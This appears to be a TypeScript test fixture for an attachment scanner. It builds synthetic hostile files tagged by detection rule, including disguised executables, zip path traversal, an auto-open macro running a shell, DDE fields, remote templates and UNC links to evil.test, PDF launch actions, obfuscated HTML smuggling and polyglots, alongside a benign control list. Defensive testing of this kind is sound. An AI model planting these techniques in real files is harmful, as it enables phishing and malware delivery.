/** Files that nobody in good faith attaches, each with what it is held for. */
import { deflateSync, gzipSync } from 'node:zlib'
import { compound, packaged, vbaProject } from './compound.ts'
import { EICAR } from './eicar.ts'
import { officeFile } from './office-files.ts'
import { zip } from './zip.ts'

export const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\0\x03\0'), Buffer.alloc(200)])
const AUTO = 'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n  Shell "calc"\r\nEnd Sub\r\n'
const TYPES = { name: '[Content_Types].xml', data: Buffer.from('<Types/>') }
const text = (value: string): Buffer => Buffer.from(value)

export function office(...files: readonly { readonly name: string; readonly data: Uint8Array }[]): Buffer {
  return zip([TYPES, ...files])
}

export function relations(type: string, target: string): Buffer {
  return text(
    `<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  )
}

export function tar(files: readonly { readonly name: string; readonly data: Uint8Array }[]): Buffer {
  const blocks = files.flatMap(({ name, data }) => {
    const head = Buffer.alloc(512)
    head.write(name, 0)
    head.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124)
    head.write('0', 156)
    head.write('ustar\x0000', 257)
    return [head, data, Buffer.alloc((512 - (data.length % 512)) % 512)]
  })
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}

/** With the flag that says "has a password". */
export function encryptedZip(name: string): Buffer {
  const bytes = zip([{ name, data: text('secreto') }])
  bytes.writeUInt16LE(bytes.readUInt16LE(6) | 1, 6)
  const entry = bytes.indexOf('PK\x01\x02')
  bytes.writeUInt16LE(bytes.readUInt16LE(entry + 8) | 1, entry + 8)
  return bytes
}

function lyingZip(): Buffer {
  const bytes = zip([{ name: 'factura.pdf', data: text('hola') }])
  bytes.write('factura.exe', 30)
  return bytes
}

function pdf(objects: string, stream?: { readonly dict: string; readonly data: Buffer }): Buffer {
  const parts: Buffer[] = [text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${objects} >>\nendobj\n`)]
  if (stream !== undefined)
    parts.push(text(`2 0 obj\n<< ${stream.dict} >>\nstream\n`), stream.data, text('\nendstream\nendobj\n'))
  return Buffer.concat([...parts, text('trailer << /Root 1 0 R >>\n%%EOF\n')])
}

function notebook(data: Buffer): Buffer {
  const head = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')
  const size = Buffer.alloc(20)
  size.writeBigUInt64LE(BigInt(data.length))
  return Buffer.concat([
    head,
    Buffer.alloc(100),
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
    size,
    data,
  ])
}

function iso(): Buffer {
  const bytes = Buffer.alloc(40_000)
  bytes.write('\x01CD001', 32_768, 'latin1')
  return bytes
}

function biff(sheetKind: number): Buffer {
  const sheet = Buffer.from([0x85, 0, 9, 0, 0, 0, 0, 0, 0, sheetKind, 1, 0, 0x41])
  return compound([{ name: 'Workbook', data: Buffer.concat([Buffer.from([9, 8, 0, 0]), sheet]) }])
}

const SMUGGLE = `<html><body><script>var b = "${'QUJD'.repeat(600)}"; var a = at\u006fb(b); var f = new Blob([a]); var l = document.createElement("a"); l.href = URL.createObjectURL(f); l.download = "factura.zip"; l.click()</script></body></html>`
const CUT = `<html><script>window["at"+"\\x6fb"]; d("${'41'.repeat(1200)}"); self["ev"+"al"](x); unescape (y); document.write(z)</script>`
const RTF = (more: string): Buffer => text(`{\\rtf1\\ansi ${more} hola}`)
const hex = (data: Uint8Array): string => Buffer.from(data).toString('hex')

type Hostile = { readonly name: string; readonly bytes: Uint8Array; readonly rules: readonly string[] }
const one = (name: string, bytes: Uint8Array, ...rules: readonly string[]): Hostile => ({
  name,
  bytes,
  rules,
})

/** All of them are held. */
export const HOSTILE: readonly Hostile[] = [
  one('factura.exe', PROGRAM, 'program'),
  one('factura.pdf', PROGRAM, 'disguised', 'program'),
  one('factura.pdf.exe', PROGRAM, 'double-extension', 'program'),
  one('factura.pdf                .scr', text('x'), 'double-extension', 'program'),
  one('factura\u202efdp.exe', text('x'), 'program', 'reversed-name'),
  one('nota.elf', text('\x7fELF\x02'), 'program'),
  one('x', Buffer.from('feedfacf', 'hex'), 'program'),
  one('x', Buffer.from('cafebabe00000002', 'hex'), 'program'),
  one('x', Buffer.from('cafebabe00000034', 'hex'), 'program'),
  one('setup', compound([{ name: '\u4840\u3f3f\u4577', data: text('x') }]), 'archived-program'),
  one('factura.js', text('alert(1)'), 'script'),
  one('factura.vbs', text('x'), 'script'),
  one('factura.hta', text('<html>'), 'script'),
  one('factura', Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), 'script'),
  one('a.zip', zip([{ name: 'factura.exe', data: PROGRAM }]), 'archived-program'),
  one('a.zip', zip([{ name: 'factura.pdf', data: PROGRAM }]), 'archived-program'),
  one('a.zip', zip([{ name: 'factura.js', data: text('x') }]), 'archived-script'),
  one('a.zip', encryptedZip('factura.exe'), 'archived-program', 'encrypted'),
  one('a.zip', zip([{ name: '../../etc/cron.d/x', data: text('x') }]), 'path'),
  one('a.zip', lyingZip(), 'lying-archive'),
  one('a.zip', zip([{ name: 'b.zip', data: zip([{ name: 'c.scr', data: PROGRAM }]) }]), 'archived-program'),
  one('a.tar', tar([{ name: 'b.exe', data: PROGRAM }]), 'archived-program'),
  one('a.tgz', gzipSync(tar([{ name: 'b.exe', data: PROGRAM }])), 'archived-program'),
  one('factura.exe.gz', gzipSync(PROGRAM), 'archived-program'),
  one('a.zip', zip([{ name: 'a', data: text('a') }]).subarray(0, 60), 'damaged'),
  one('a.gz', gzipSync(text('hola'.repeat(500))).subarray(0, 30), 'damaged'),
  one('cd.iso', iso(), 'disk-image'),
  one('cd.dat', iso(), 'disk-image'),
  one('a.vhd', text('conectix'), 'disk-image'),
  one('a.docm', office({ name: 'word/vbaProject.bin', data: vbaProject(AUTO) }), 'macro-auto'),
  one('a.docx', office({ name: 'word/vbaProject.bin', data: compound([{ name: 'VBA' }]) }), 'macro-auto'),
  one('a.doc', vbaProject(AUTO), 'macro-auto'),
  one('a.xls', biff(1), 'macro-xlm'),
  one('a.xlsm', office({ name: 'xl/macrosheets/sheet1.xml', data: text('<x/>') }), 'macro-xlm'),
  one(
    'a.docx',
    office({
      name: 'word/document.xml',
      data: text('<w:p><w:instrText>D</w:instrText><w:r/><w:instrText>DEAUTO c:\\\\x</w:instrText></w:p>'),
    }),
    'dde',
  ),
  one(
    'a.xlsx',
    office({
      name: 'xl/externalLinks/externalLink1.xml',
      data: text('<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
    }),
    'dde',
  ),
  one(
    'a.docx',
    office({
      name: 'word/_rels/settings.xml.rels',
      data: relations('attachedTemplate', 'https://evil.test/x.dotm'),
    }),
    'template',
  ),
  one(
    'a.docx',
    office({
      name: 'word/_rels/document.xml.rels',
      data: relations('oleObject', 'mhtml:https://evil.test/x!x-usc:https://evil.test/x'),
    }),
    'template',
  ),
  one(
    'a.docx',
    office({
      name: 'word/_rels/document.xml.rels',
      data: relations('image', 'file:///\\\\evil.test\\x.png'),
    }),
    'unc',
  ),
  one(
    'a.docx',
    office({
      name: 'word/embeddings/oleObject1.bin',
      data: compound([{ name: '\u0001Ole10Native', data: packaged('factura.exe', PROGRAM) }]),
    }),
    'archived-program',
    'embedded',
  ),
  one(
    'a.docx',
    office({
      name: 'word/embeddings/oleObject1.bin',
      data: compound([{ name: 'Equation Native', data: text('x') }]),
    }),
    'embedded',
    'equation',
  ),
  one(
    'a.rtf',
    RTF(`{\\object\\objupdate{\\*\\objdata ${hex(text('\x01\x05\0\0\x02\0\0\0\x0b\0\0\0Equation.3\0'))}}}`),
    'equation',
    'rtf-object',
  ),
  one(
    'a.doc',
    RTF(
      `{\\object{\\*\\objdata ${hex(compound([{ name: '\u0001Ole10Native', data: packaged('a.exe', PROGRAM) }]))}}}`,
    ),
    'archived-program',
    'embedded',
  ),
  one('a.rtf', RTF('{\\*\\template https://evil.test/x.dotm}'), 'template'),
  one('a.rtf', RTF('{\\*\\template \\\\\\\\evil.test\\\\x.dotm}'), 'unc'),
  one('a.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'pdf-launch'),
  one('a.pdf', pdf('/OpenAction << /S /L#61unch >>'), 'pdf-launch'),
  one(
    'a.pdf',
    pdf('', { dict: '/Type /ObjStm /Filter /FlateDecode', data: deflateSync(text('3 0 << /S /Launch >>')) }),
    'pdf-launch',
  ),
  one(
    'a.pdf',
    pdf('', { dict: '/Type /EmbeddedFile /Filter /FlateDecode', data: deflateSync(PROGRAM) }),
    'archived-program',
    'pdf-file',
  ),
  one('nota.one', notebook(PROGRAM), 'archived-program'),
  one('factura.html', text(SMUGGLE), 'html-smuggling'),
  one('factura.htm', text(CUT), 'html-smuggling'),
  one('logo.svg', text('<svg xmlns="x"><script>alert(1)</script></svg>'), 'svg-script'),
  one('logo.svg', text('<svg xmlns="x" onload="x()"/>'), 'svg-script'),
  one('logo.svgz', gzipSync(text('<svg xmlns="x" onload="x()"/>')), 'svg-script'),
  one('a.zip', zip([{ name: 'factura.html', data: text(SMUGGLE) }]), 'html-smuggling'),
  one('foto.gif', text('GIF89a/*\0\0*/=1;alert(1)'), 'polyglot'),
  one(
    'foto.jpg',
    Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), zip([{ name: 'a.txt', data: text('x') }])]),
    'polyglot',
  ),
  one('a.pdf', Buffer.concat([pdf(''), zip([{ name: 'a.txt', data: text('x') }])]), 'polyglot'),
  one('a.zip', Buffer.concat([zip([{ name: 'a%PDF-1.4', data: text('x') }])]), 'polyglot'),
  one(
    'a.url',
    text('[InternetShortcut]\r\nURL=https://empresa.test\r\nIconFile=\\\\evil.test\\x.ico\r\n'),
    'shortcut',
    'shortcut-unc',
  ),
  one(
    'a.eml',
    text(
      `Content-Type: application/octet-stream; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n${PROGRAM.toString('base64')}\r\n`,
    ),
    'archived-program',
  ),
]

/** What colleagues send each other all day: none of them is held. */
export const HONEST: readonly Hostile[] = [
  ...[
    'acta.docx',
    'acta.odt',
    'acta.rtf',
    'acta.pdf',
    'cuentas.xlsx',
    'cuentas.ods',
    'charla.pptx',
    'charla.odp',
    'acta.doc',
    'cuentas.xls',
  ].map((name) => one(name, officeFile(name))),
  one('charla-ppt.zip', officeFile('charla-ppt.zip')),
  one('acta-encrypted.pdf', officeFile('acta-encrypted.pdf'), 'encrypted-document'),
  one('nota.txt', text('hola')),
  one('nota.com.txt', text('hola')),
  one('foto.png', Buffer.from('89504e470d0a1a0a', 'hex')),
  one('foto.jpg', Buffer.from('89504e470d0a1a0a', 'hex')),
  one('logo.svg', text('<svg xmlns="x"><path d="M0 0"/></svg>')),
  one(
    'pagina.html',
    text(
      '<html><body><p>hola, descargue el <a href="https://empresa.test/download">catálogo</a></p></body></html>',
    ),
  ),
  one('grafico.html', text('<html><script>draw([1,2,3])</script></html>')),
  one(
    'a.zip',
    zip([
      { name: 'nota.txt', data: text('hola') },
      { name: 'b/foto.jpg', data: Buffer.from('ffd8ffe0', 'hex') },
    ]),
  ),
  one('a.zip', encryptedZip('nota.pdf'), 'encrypted'),
  one(
    'fuentes.zip',
    zip(Array.from({ length: 20 }, (_, n) => ({ name: `src/${n}.js`, data: text(`export const n = ${n}`) }))),
  ),
  one('copia.sh', text('#!/bin/sh\necho hola\n'), 'source'),
  one(
    'a.docm',
    office({
      name: 'word/vbaProject.bin',
      data: vbaProject('Attribute VB_Name = "M"\r\nSub Sumar()\r\nEnd Sub\r\n'),
    }),
    'macro',
  ),
  one(
    'a.xlsx',
    office({
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      data: relations('externalLinkPath', 'file:///\\\\servidor\\cuentas.xlsx'),
    }),
    'external-link',
  ),
  one(
    'a.docx',
    office({ name: 'word/_rels/document.xml.rels', data: relations('hyperlink', 'https://empresa.test') }),
  ),
  one('a.pdf', pdf('/OpenAction [3 0 R /Fit]')),
  one('a.pdf', pdf('/AcroForm << /JS (calc()) >>'), 'pdf-script'),
  one('blancos.log.gz', gzipSync(Buffer.alloc(8 * 1024 * 1024))),
  one('eicar.txt', text(EICAR)),
]
